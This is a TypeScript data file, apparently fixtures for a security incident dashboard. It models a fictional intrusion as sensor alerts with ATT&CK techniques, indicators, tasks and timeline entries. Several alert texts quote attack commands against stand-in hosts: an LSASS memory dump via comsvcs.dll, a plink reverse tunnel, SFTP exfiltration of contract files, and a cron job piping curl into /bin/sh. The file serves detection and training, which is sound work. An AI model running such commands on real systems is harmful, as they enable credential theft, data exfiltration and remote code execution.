import { colleagues } from './company.ts'
import { external } from './incident.ts'

const [tomas = '', aylin = '', henrik = '', pieter = ''] = colleagues.map(({ username }) => username)

type Severity = 'critical' | 'high' | 'medium' | 'low' | 'info'
interface Signal {
  key: string
  day: number
  at: number
  title: string
  severity: Severity
  source: string
  category: string
  host: string
  techniques: string[]
  text: string
}
const signal = (
  key: string,
  [onDay, at]: [number, number],
  [severity, source, category]: [Severity, string, string],
  host: string,
  techniques: string[],
  title: string,
  text: string,
): Signal => ({ key, day: onDay, at, severity, source, category, host, techniques, title, text })

/** What the sensors said of "Stillwasser", in its order. */
export const stillwasser: readonly Signal[] = [
  signal(
    'mail',
    [20, 520],
    ['medium', 'mail-gateway', 'phishing'],
    'bhv-ws-014',
    ['T1566.001'],
    'Disk image in a mail to j.petersen',
    'From berths@harbour-notice.example: "Berth changes", with Hafenliste.iso. Delivered, because its sender had no record yet.',
  ),
  signal(
    'beacon',
    [20, 555],
    ['high', 'proxy', 'command and control'],
    'bhv-ws-014',
    ['T1071.001'],
    'Regular calls to a domain of this week',
    `rundll32.exe calls docks-sync[.]example (${external.c2}) every 60 s with a jitter of a tenth.`,
  ),
  signal(
    'lsass',
    [24, 131],
    ['critical', 'wazuh', 'credential access'],
    'bhv-ws-014',
    ['T1003.001'],
    'Memory of LSASS written to a file',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\p.bin full',
  ),
  signal(
    'kerberoast',
    [26, 1395],
    ['high', 'wazuh', 'credential access'],
    'ham-dc-01',
    ['T1558.003'],
    'RC4 ticket for a service account',
    'j.petersen@NORDWIND asked for svc-backup with encryption 0x17 from 10.30.20.24.',
  ),
  signal(
    'rdp',
    [27, 73],
    ['high', 'wazuh', 'lateral movement'],
    'ham-jmp-02',
    ['T1021.001', 'T1078.002'],
    'Service account signs in by RDP at night',
    'svc-backup from BHV-WS-014 (10.30.20.24), logon type 10.',
  ),
  signal(
    'tunnel',
    [33, 94],
    ['critical', 'wazuh', 'command and control'],
    'ham-jmp-02',
    ['T1572'],
    'Reverse tunnel to an engineering network',
    `plink.exe -N -R 33890:10.40.90.13:3389 sync@${external.c2} -P 443`,
  ),
  signal(
    'exfiltration',
    [38, 128],
    ['critical', 'proxy', 'exfiltration'],
    'ham-fs-01',
    ['T1567.002', 'T1048.002'],
    '41 GB to an address outside by SFTP',
    `svchostx.exe copy D:\\Charter\\Contracts sftp:${external.drop} in three nights`,
  ),
  signal(
    'miner',
    [41, 187],
    ['medium', 'wazuh', 'impact'],
    'mad-web-02',
    ['T1053.003', 'T1496'],
    'Cron job of www-data fetches a script',
    `*/15 * * * * /usr/bin/curl -fsS http://${external.stage}/t | /bin/sh`,
  ),
]
/** What else a week brings: some of it real, most of it not. */
export const weekday: readonly Signal[] = [
  signal(
    'spray',
    [53, 410],
    ['high', 'vpn', 'credential access'],
    'ham-dc-02',
    ['T1110.003'],
    'Password spray against the VPN',
    '212 accounts, one password each, from 192.0.2.61.',
  ),
  signal(
    'macro',
    [53, 620],
    ['medium', 'mail-gateway', 'phishing'],
    'ham-ws-007',
    ['T1566.001'],
    'Workbook with a macro from a new sender',
    'Rechnung_4471.xlsm to k.brandt, held back.',
  ),
  signal(
    'usb',
    [54, 545],
    ['low', 'wazuh', 'policy'],
    'bhv-ws-015',
    ['T1091'],
    'Storage device was plugged in',
    'SanDisk Ultra, serial 4C530001, by m.ortiz.',
  ),
  signal(
    'psremote',
    [54, 700],
    ['medium', 'wazuh', 'execution'],
    'ham-fs-01',
    ['T1059.001'],
    'Encoded PowerShell',
    'powershell.exe -enc SQBFAFgA… by NORDWIND\\svc-patch. The patch tool does so each Tuesday.',
  ),
  signal(
    'lookup',
    [55, 80],
    ['low', 'dns', 'command and control'],
    'mad-lt-021',
    ['T1071.004'],
    'Long names looked up',
    '1,140 names of more than 60 letters under telemetry.vendor.example in an hour.',
  ),
  signal(
    'admin',
    [55, 200],
    ['high', 'wazuh', 'persistence'],
    'ham-dc-01',
    ['T1098'],
    'Account joined the group of domain administrators',
    'n.albers was added by t.jansen outside the hours of changes.',
  ),
  signal(
    'av',
    [55, 310],
    ['info', 'defender', 'malware'],
    'ham-ws-007',
    ['T1204.002'],
    'Known adware was removed',
    'PUA:Win32/InstallCore in C:\\Users\\k.brandt\\Downloads\\pdf-tool.exe, removed.',
  ),
]
/** Words of the indicators of the incident; each is watched for from then on. */
export const indicators: readonly [type: string, value: string, description: string][] = [
  ['ip', external.c2, 'Command and control of Stillwasser'],
  ['domain', 'docks-sync.example', 'Command and control of Stillwasser'],
  ['ip', external.drop, 'Where the charter contracts went'],
  ['ip', external.stage, 'Second stage for Linux'],
  ['domain', 'tide-cdn.example', 'Second stage for Linux'],
  ['sha256', '9c1e5d27b0f34a86e2d87a415c0fb39d6a2e41c87f05d3b9a6c44e18d2f7b053', 'psync.dll, plink.exe and svchostx.exe carry it'],
]
export const tasks: readonly [title: string, by: string, done: boolean][] = [
  ['Take memory and disk of bhv-ws-014', aylin, true],
  ['Quarantine ham-jmp-02 and rtm-eng-03', tomas, true],
  ['New password for svc-backup, and fewer rights', henrik, true],
  ['Search all mailboxes for Hafenliste.iso', henrik, true],
  ['Tell the charter partners', pieter, true],
  ['Replay with the red team: would we see it now?', tomas, false],
]
export const entries: readonly [at: [number, number], by: string, text: string][] = [
  [[43, 540], aylin, `A tip of the sector's ISAC names ${external.c2}. **bhv-ws-014 talks to it**, since day 20.`],
  [[43, 700], tomas, 'Case declared. Mara informed. First call at noon.'],
  [[44, 480], henrik, 'The letter of day 20 is found; 3 others had it and did not open it. ham-jmp-02 and ham-dc-01 belong to it.'],
  [[46, 600], tomas, 'Containment: three hosts in quarantine, `svc-backup` disabled, the addresses and domains blocked at the border.'],
  [[49, 660], pieter, 'Data protection and the charter partners are told.'],
]
